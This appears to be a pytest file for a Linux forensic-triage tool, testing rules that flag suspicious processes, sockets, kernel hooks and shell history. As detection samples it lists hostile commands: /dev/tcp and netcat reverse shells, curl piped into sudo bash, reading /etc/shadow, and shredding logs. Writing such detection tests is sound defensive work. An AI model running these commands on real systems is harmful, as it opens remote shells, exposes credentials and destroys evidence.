"""Each rule says what it must, and is silent about what only looks like it."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace

import pytest

from forensics.findings import Context, find, not_run, rules
from forensics.model import ClockOffset, Facts, Finding, LiveProcess, Severity, Verdict
from forensics.survey import facts
from forensics.tables import Absent, Cell, Column, Table

THREAD = Absent("a kernel thread has no executable")


def table(name: str, columns: str, rows: Sequence[Sequence[Cell]], *sources: str) -> Table:
    return Table(name, name, tuple(map(Column, columns.split())), tuple(map(tuple, rows)), sources or ("E0001",))


def processes(*rows: Sequence[Cell]) -> Table:
    """Take (pid, comm, exe, deleted, present, args) of each."""
    return table(
        "processes",
        "pid comm exe exe_deleted exe_present args kernel_thread state uid",
        [(*row, isinstance(row[2], Absent), "S", 0) for row in rows],
        "E0007",
    )


def found(*tables: Table, context: Context | None = None) -> list[Finding]:
    return find({one.name: one for one in tables}, context or Context())


def by_rule(rule: str, *tables: Table, context: Context | None = None) -> list[Finding]:
    return [finding for finding in found(*tables, context=context) if finding.rule == rule]


HONEST: list[Sequence[Cell]] = [
    (1, "systemd", "/usr/lib/systemd/systemd", False, True, "/sbin/init"),
    (2, "kthreadd", THREAD, THREAD, THREAD, "[kthreadd]"),
    (9, "kworker/0:1-events", THREAD, THREAD, THREAD, "[kworker/0:1-events]"),
    (20, "(sd-pam)", "/usr/lib/systemd/systemd", False, True, "(sd-pam)"),
    (21, "bash", "/usr/bin/bash", False, True, "-bash"),
    (22, "sshd", "/usr/sbin/sshd", False, True, "sshd: root@pts/0"),
    (23, "dbus-daemon", "/usr/bin/dbus-daemon", False, True, "@dbus-daemon --system"),
    (24, "backup", "/usr/bin/python3.11", False, True, "/usr/bin/python3 /usr/local/sbin/backup"),
    (25, "worker-main", "/usr/bin/python3.11", False, True, "/usr/bin/python3 /usr/local/sbin/worker"),
    (26, "python3", "/usr/bin/python3.11", False, True, "python3 -m http.server"),
    (27, "sh", "/usr/bin/dash", False, True, "sh -c true"),
    (28, "ls", "/usr/bin/busybox", False, True, "ls -l"),
    (29, "nginx", "/usr/sbin/nginx", False, True, "nginx: master process /usr/sbin/nginx"),
    (30, "postgres", "/usr/lib/postgresql/15/bin/postgres", False, True, "postgres: 15/main: writer"),
    (31, "mariadbd", "/usr/sbin/mariadbd", False, True, "/usr/sbin/mariadbd"),
    (32, "vi", "/usr/bin/vim.basic", False, True, "vi notes"),
    (33, "[", "/usr/bin/[", False, True, "[ -f x ]"),
    (34, "empty", "/usr/sbin/empty", False, True, "[empty]"),
    (35, "agetty", "/usr/sbin/agetty", False, True, "/sbin/agetty -o -p -- \\u --noclear tty1 linux"),
    (36, "cron", "/usr/sbin/cron", True, True, "/usr/sbin/cron -f"),
]
"""Processes of ordinary machines, each unlike its program's name in its own honest way; the last one was upgraded."""


def test_ordinary_processes_give_nothing_above_information() -> None:
    grave = [one for one in found(processes(*HONEST)) if one.severity is not Severity.INFORMATION]
    assert grave == []


def test_an_upgraded_program_is_information() -> None:
    (finding,) = by_rule("deleted-executable", processes(*HONEST))
    assert finding.severity is Severity.INFORMATION
    assert "/usr/sbin/cron" in finding.statement
    assert not finding.technique


DELETED = (66, ".beacon", "/dev/shm/.beacon", True, False, "/dev/shm/.beacon --id loader-77")


def test_a_program_deleted_from_memory_is_grave_and_tells_arguments_and_environment() -> None:
    environment = table(
        "linux.envars.Envars",
        "PID PPID COMM KEY VALUE",
        [
            (66, 1, ".beacon", "PATH", "/usr/bin"),
            (66, 1, ".beacon", "SESSION_KEY", "loader-77"),
            (67, 1, "x", "A", "b"),
        ],
        "D0004",
    )
    (finding,) = by_rule("deleted-executable", processes(*HONEST[:5], DELETED), environment)
    assert finding.severity is Severity.HIGH
    assert finding.exhibits == ("E0007", "D0004")
    assert finding.facts["pid"] == 66
    for value in ("/dev/shm/.beacon", "pid 66", "--id loader-77", "SESSION_KEY=loader-77"):
        assert value in finding.statement
    assert "PATH=" not in finding.statement


@pytest.mark.parametrize(
    ("exe", "present", "severity"),
    [
        ("/usr/sbin/cron", True, Severity.INFORMATION),
        ("/usr/sbin/cron", False, Severity.HIGH),
        ("/tmp/x", True, Severity.HIGH),
        ("/home/ann/x", True, Severity.LOW),
        ("/home/ann/x", Absent("not looked at"), Severity.MEDIUM),
        ("/memfd:x", False, Severity.HIGH),
    ],
)
def test_where_a_deleted_program_was_decides(exe: str, present: Cell, severity: Severity) -> None:
    (finding,) = by_rule("deleted-executable", processes((5, "x", exe, True, present, exe)))
    assert finding.severity is severity


@pytest.mark.parametrize(
    ("comm", "args"),
    [
        ("kworker/1:3", "[kworker/1:3-writeback]"),
        ("perl", "[kworker/1:3-writeback]"),
        ("kworker/1:3", "[kworker/1:3]"),
        ("x", "[whatever]"),
    ],
)
def test_a_program_that_plays_a_kernel_thread_is_grave(comm: str, args: str) -> None:
    (finding,) = by_rule("forged-name", processes((70, comm, "/opt/x/mailctl", False, True, args)))
    assert (finding.severity, finding.technique) == (Severity.HIGH, "T1036.004")
    assert "/opt/x/mailctl" in finding.statement
    assert args in finding.statement


def test_a_program_started_under_the_name_of_another_is_named() -> None:
    (finding,) = by_rule("forged-name", processes((70, "sleep", "/usr/bin/sleep", False, True, "/usr/sbin/cron -f")))
    assert (finding.severity, finding.technique) == (Severity.MEDIUM, "T1036.005")


def test_a_process_that_only_memory_shows_is_judged_too() -> None:
    spoofed = table(
        "linux.malware.process_spoofing.ProcessSpoofing",
        "PID PPID Exe_Path Cmdline_Basename Comm Cmdline_Spoofed Comm_Spoofed Exe_Deleted",
        [(80, 1, "/dev/shm/.y (deleted)", ".y", ".y", False, False, True)],
        "D0009",
    )
    (finding,) = by_rule("deleted-executable", processes(*HONEST[:2]), spoofed)
    assert (finding.severity, finding.exhibits) == (Severity.HIGH, ("D0009",))


SOCKETS = "protocol state local_address local_port peer_address peer_port pid process uid"


def test_every_listener_is_named_and_a_suspect_one_gravely() -> None:
    sockets = table(
        "sockets",
        SOCKETS,
        [
            ("tcp", "LISTEN", "10.0.2.15", 22, "10.0.2.15", 0, 22, "sshd", 0),
            ("tcp", "LISTEN", "::", 22, "::", 0, 22, "sshd", 0),
            ("tcp", "ESTAB", "10.0.2.15", 22, "10.0.2.2", 4000, 22, "sshd", 0),
            ("tcp", "LISTEN", "10.0.2.15", 4444, "10.0.2.15", 0, 66, ".beacon", 0),
        ],
        "E0008",
    )
    beacon, sshd = by_rule("listening-socket", processes(*HONEST, DELETED), sockets)
    assert (sshd.severity, sshd.facts["ports"]) == (Severity.INFORMATION, [22])
    assert (beacon.severity, beacon.facts["ports"], beacon.exhibits) == (Severity.HIGH, [4444], ("E0008", "E0007"))


def shell(*commands: str) -> Table:
    rows = [(40, "bash", "2026-11-23T21:00:00Z", command) for command in commands]
    return table("linux.bash.Bash", "PID Process CommandTime Command", rows, "D0003")


@pytest.mark.parametrize(
    "command",
    [
        "uptime", "df -h /", "less /etc/hosts", "systemctl status cron", "ls /tmp", "ssh web01 uptime", "scp a web01:/",
        "curl -O https://example.org/a.tgz", "chmod 644 /tmp/notes", "tail -f /var/log/syslog", "history | grep apt",
        "bash -c 'echo hi'", "nc -z web01 22", "export HISTFILESIZE=100000", "rm -r build",
    ],
)  # fmt: skip
def test_ordinary_commands_are_information(command: str) -> None:
    (finding,) = by_rule("shell-history", shell(command))
    assert finding.severity is Severity.INFORMATION
    assert command in finding.statement


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("bash -i >& /dev/tcp/192.0.2.7/443 0>&1", Severity.HIGH),
        ("nc 192.0.2.7 443 -e /bin/sh", Severity.HIGH),
        ("curl -s http://example.org/a | sudo bash", Severity.HIGH),
        ("echo aWQK | base64 -d | sh", Severity.HIGH),
        ("insmod /tmp/x.ko", Severity.HIGH),
        ("wget http://192.0.2.7/x", Severity.MEDIUM),
        ("curl -fso /dev/shm/.a/x http://example.org/x", Severity.MEDIUM),
        ("chmod +x /dev/shm/.a/x", Severity.MEDIUM),
        ("unset HISTFILE", Severity.MEDIUM),
        ("history -c", Severity.MEDIUM),
        ("cp /bin/sleep /dev/shm/.x; KEY=1 /dev/shm/.x 40 & rm /dev/shm/.x", Severity.MEDIUM),
        ("shred -u /var/log/auth.log", Severity.MEDIUM),
        ("cat /etc/shadow", Severity.MEDIUM),
    ],
)
def test_commands_that_intruders_are_known_for_are_named(command: str, severity: Severity) -> None:
    (finding,) = by_rule("shell-history", shell("uptime", command))
    assert finding.severity is severity
    assert command in finding.statement
    assert finding.technique.startswith("T1")


def test_three_doubtful_techniques_in_one_shell_are_grave_together() -> None:
    commands = ("unset HISTFILE", "wget http://192.0.2.7/x -O /tmp/x", "chmod +x /tmp/x")
    (finding,) = by_rule("shell-history", shell(*commands))
    assert finding.severity is Severity.HIGH
    (finding,) = by_rule("shell-history", shell(*commands[:2]))
    assert finding.severity is Severity.MEDIUM


def test_a_kill_names_victim_memory_and_limit() -> None:
    kills = table(
        "oom_kills",
        "kill time constraint invoker invoker_pid victim victim_pid total_vm anon_rss manual memcg",
        [(0, 36.1, "CONSTRAINT_MEMCG", "perl", 290, "storerelay", 290, 31457280, 24903680, False, "/system.slice/x")],
        "E0005",
    )
    log = table("kernel_log", "time text", [(36.0, "memory: usage 24576kB, limit 24576kB, failcnt 88")])
    (finding,) = by_rule("oom-kill", kills, log)
    for value in ("storerelay", "290", "24903680", "31457280", "25165824", "CONSTRAINT_MEMCG"):
        assert value in finding.statement


def test_the_busiest_process_is_named_with_its_waits_and_files() -> None:
    loads = table(
        "block_io_processes",
        "pid process reads read_bytes writes written_bytes",
        [(281, "cachescan", 0, 0, 144, 1179648), (5, "jbd2/vda-8", 0, 0, 3, 12288)],
        "E0011",
    )
    waits = table(
        "block_io_latency",
        "scope pid measure count average p99",
        [
            ("cachescan", 281, "Q2D", 9, 0.0005, 0.001),
            ("cachescan", 281, "D2C", 9, 0.002, 0.004),
            ("cachescan", 281, "Q2C", 9, 0.0025, 0.005),
            ("all", 0, "Q2C", 99, 0.9, 0.9),
        ],
    )
    files = table(
        "linux.lsof.Lsof",
        "PID TID Process FD Path Device Inode Type",
        [
            (281, 281, "cachescan", 0, "/dev/null", "0:5", 4, "CHR"),
            (281, 281, "cachescan", 3, "/var/lib/x/archive.bin", "254:0", 9, "REG"),
        ],
        "D0006",
    )
    (finding,) = by_rule("io-burst", loads, waits, files)
    assert finding.severity is Severity.INFORMATION
    assert finding.exhibits == ("E0011", "D0006")
    for value in ("cachescan (pid 281)", "1179648", "8192 bytes each", "/var/lib/x/archive.bin", "2.500 ms", "D2C"):
        assert value in finding.statement
    assert "900.000 ms" not in finding.statement
    held = table("open_files", "pid fd kind path deleted", [(281, 3, "file", "/var/lib/x/live.bin", False)], "E0004")
    (finding,) = by_rule("io-burst", loads, waits, held)
    assert "Its files open: /var/lib/x/live.bin." in finding.statement
    assert finding.exhibits == ("E0011", "E0004"), "memory was not analysed: the live list stands in"


SURVEYED = "2026-11-23T21:00:00Z"
BOOT = 1795467600 - 500


def surveyed(*live: LiveProcess) -> Facts:
    clock = ClockOffset(0.0, 0.1, SURVEYED)
    return replace(facts.derive([]).facts, uptime=500.0, clock=clock, processes=live, modules=("ext4",))


def live(pid: int, started: float, comm: str = "x") -> LiveProcess:
    return LiveProcess(pid, 1, 0, comm, started, kernel_thread=False)


def moment(started: float) -> str:
    whole = 21 * 3600 - 500 + int(started)
    return f"2026-11-23T{whole // 3600:02}:{whole // 60 % 60:02}:{whole % 60:02}+00:00"


def remembered(*tasks: tuple[int, float]) -> Table:
    rows = [(pid, pid, 1, "x", moment(started)) for pid, started in tasks]
    return table("linux.pslist.PsList", "PID TID PPID COMM CREATION-TIME", rows, "D0001")


def pslist(*tasks: tuple[int, float]) -> Table:
    base = remembered(*tasks)
    return replace(base, columns=(*base.columns[:-1], Column("CREATION TIME")))


def afterwards(*tasks: tuple[int, float]) -> Table:
    return table("processes", "pid comm started kernel_thread", [(p, "x", moment(s), False) for p, s in tasks], "E0007")


def test_a_process_that_only_memory_has_is_grave() -> None:
    context = Context(surveyed(live(1, 1)), Verdict.COMPLETE)
    (finding,) = by_rule("in-memory-not-live", pslist((1, 1), (66, 100)), afterwards((1, 1)), context=context)
    assert (finding.severity, finding.facts["pid"]) == (Severity.HIGH, 66)


def test_short_lived_processes_are_left_out() -> None:
    context = Context(surveyed(live(1, 1), live(50, 100)), Verdict.COMPLETE)
    memory = pslist((1, 1), (70, 520), (50, 100))  # 70 began after the survey; 50 ended before the second list
    assert by_rule("in-memory-not-live", memory, afterwards((1, 1)), context=context) == []
    gone = pslist((1, 1))
    assert by_rule("live-not-in-memory", gone, afterwards((1, 1)), context=context) == []


def test_a_process_that_memory_lacks_is_grave_only_in_a_complete_image() -> None:
    lists = (pslist((1, 1)), afterwards((1, 1), (66, 100)))
    whole = Context(surveyed(live(1, 1), live(66, 100)), Verdict.COMPLETE)
    torn = replace(whole, verdict=Verdict.PARTIAL)
    assert [one.severity for one in by_rule("live-not-in-memory", *lists, context=whole)] == [Severity.HIGH]
    assert [one.severity for one in by_rule("live-not-in-memory", *lists, context=torn)] == [Severity.LOW]


def test_a_number_that_was_given_twice_is_two_processes() -> None:
    context = Context(surveyed(live(1, 1), live(66, 100)), Verdict.COMPLETE)
    lists = (pslist((1, 1)), afterwards((1, 1), (66, 530)))  # another process by the second list
    assert by_rule("live-not-in-memory", *lists, context=context) == []


def hidden(*names: str) -> Table:
    rows = [(0xFFFFFFFFC0000000, name) for name in names]
    made = table("linux.malware.hidden_modules.Hidden_modules", "Offset Name", rows, "D0002")
    return replace(made, columns=(Column("Offset", "hex"), Column("Module Name")))


def test_a_hidden_module_is_grave_and_ours_is_not_one() -> None:
    context = Context(surveyed())
    (finding,) = by_rule("hidden-module", hidden("diamorphine", "lime", "ext4"), context=context)
    assert (finding.severity, finding.facts["module"]) == (Severity.HIGH, "diamorphine")


def syscalls(*symbols: Cell) -> Table:
    rows = [(0xFFFF0000, "64bit", index, 0xFFFF0000 + index, symbol) for index, symbol in enumerate(symbols)]
    made = table("linux.malware.check_syscall.Check_syscall", "A B Index C D", rows, "D0005")
    names = ("Table Address", "Table Name", "Index", "Handler Address", "Handler Symbol")
    return replace(made, columns=tuple(map(Column, names)))


def test_a_system_call_that_leads_nowhere_known_is_grave() -> None:
    assert by_rule("syscall-hook", syscalls("__x64_sys_read", "__x64_sys_write")) == []
    (finding,) = by_rule("syscall-hook", syscalls("__x64_sys_read", "UNKNOWN", "__x64_sys_open"))
    assert finding.severity is Severity.HIGH
    assert "64bit 1" in finding.statement


def test_a_table_that_does_not_fit_is_no_rootkit() -> None:
    (finding,) = by_rule("syscall-hook", syscalls("UNKNOWN", "UNKNOWN", "__x64_sys_open"))
    assert finding.severity is Severity.INFORMATION


def test_code_without_a_file_is_information_unless_its_process_is_suspect() -> None:
    columns = "PID Process Start End Path Protection"
    rows = [(26, "python3", 4096, 8192, Absent("none"), "rwx"), (66, ".beacon", 4096, 8192, Absent("none"), "rwx")]
    regions = table("linux.malware.malfind.Malfind", columns, rows, "D0008")
    beacon, python = by_rule("injected-code", processes(*HONEST, DELETED), regions)
    assert (beacon.severity, beacon.facts["pid"]) == (Severity.MEDIUM, 66)
    assert (python.severity, python.facts["pid"]) == (Severity.INFORMATION, 26)


def test_lynis_speaks_in_its_own_words() -> None:
    columns = "kind test category text details solution"
    rows = [
        ("warning", "PKGS-7392", "x", "Found packages", "-", "-"),
        ("suggestion", "BOOT-5122", "x", "Set it.", "-", "-"),
    ]
    first, second = found(table("lynis_findings", columns, rows, "E0012"))
    assert {first.severity, second.severity} == {Severity.INFORMATION}
    assert "Found packages [PKGS-7392]" in second.statement


def test_preloaded_code_from_an_open_folder_is_grave() -> None:
    rows: list[Sequence[Cell]] = [(5, 1, "x", "LD_PRELOAD", "/tmp/.x.so"), (6, 1, "y", "LD_LIBRARY_PATH", "/opt/lib")]
    (finding,) = by_rule("preload", table("linux.envars.Envars", "PID PPID COMM KEY VALUE", rows))
    assert (finding.severity, finding.technique) == (Severity.HIGH, "T1574.006")


def test_a_clock_that_is_off_is_said_with_its_uncertainty() -> None:
    off = replace(surveyed(), clock=ClockOffset(-3600.5, 0.05, SURVEYED))
    (finding,) = by_rule("clock-offset", context=Context(off))
    assert "3600.500 s ± 0.050 s behind" in finding.statement
    assert by_rule("clock-offset", context=Context(surveyed())) == []


READINGS = "measured target_time offset_seconds uncertainty_seconds"
UNASKED = Absent("when we asked is not on record")


def test_a_clock_that_was_set_while_we_worked_is_said() -> None:
    rows: list[Sequence[Cell]] = [
        ("2026-11-23T22:00:00Z", "-", 3.9, 0.9),
        ("2026-11-23T22:00:01Z", "-", 3.0, 0.05),
        (UNASKED, "-", UNASKED, UNASKED),
    ]
    (finding,) = by_rule("clock-drift", table("clock_readings", READINGS, rows, "E0031"), context=Context(surveyed()))
    assert "+3.000 s ± 0.150 s" in finding.title
    assert "2026-11-23T22:00:01Z" in finding.statement
    assert finding.severity is Severity.INFORMATION


def test_a_clock_that_kept_its_offset_is_not_spoken_of() -> None:
    rows: list[Sequence[Cell]] = [("2026-11-23T22:00:01Z", "-", 0.9, 0.05)]
    assert by_rule("clock-drift", table("clock_readings", READINGS, rows), context=Context(surveyed())) == []
    silent: list[Sequence[Cell]] = [(UNASKED, "-", UNASKED, UNASKED)]
    assert by_rule("clock-drift", table("clock_readings", READINGS, silent), context=Context(surveyed())) == []


def test_rules_without_their_tables_are_said_to_be_not_run() -> None:
    missing = not_run({"processes": processes()})
    assert "linux.pslist.PsList" in missing["in-memory-not-live"]
    assert "deleted-executable" not in missing
    names: Mapping[str, object] = {rule.name: rule for rule in rules()}
    assert set(missing) <= set(names)


def test_empty_tables_give_nothing() -> None:
    needed = {part for rule in rules() for need in rule.needs for part in need.split("|")}
    assert find({name: table(name, "pid", []) for name in needed}, Context(surveyed())) == []


def test_the_gravest_come_first() -> None:
    severities = [one.severity for one in found(processes(*HONEST, DELETED), shell("uptime"))]
    assert severities[0] is Severity.HIGH
    assert severities[-1] is Severity.INFORMATION


def interrupts(*handlers: tuple[int, int, Cell]) -> Table:
    rows = [(vector, 0xFFFFA3C01000 + vector, "__kernel__") for vector in range(17)]
    return table("linux.malware.check_idt.Check_idt", "Index Address Module", [*rows, *handlers], "D0005")


def test_an_interrupt_that_leads_nowhere_known_is_grave() -> None:
    assert by_rule("interrupt-hook", interrupts()) == []
    (finding,) = by_rule("interrupt-hook", interrupts((128, 0xFFFFC0A21000, Absent("not available"))))
    assert finding.severity is Severity.HIGH
    assert "128" in finding.statement


def test_a_vector_that_kept_its_handler_of_early_boot_is_no_hook() -> None:
    """Machine check on a clean 6.1 guest without that feature: early_idt_handler_array + 18 * 9."""
    assert by_rule("interrupt-hook", interrupts((18, 0xFFFFA544E0A2, Absent("not available")))) == []
    assert len(by_rule("interrupt-hook", interrupts((18, 0xFFFFA544E0A3, Absent("not available"))))) == 1
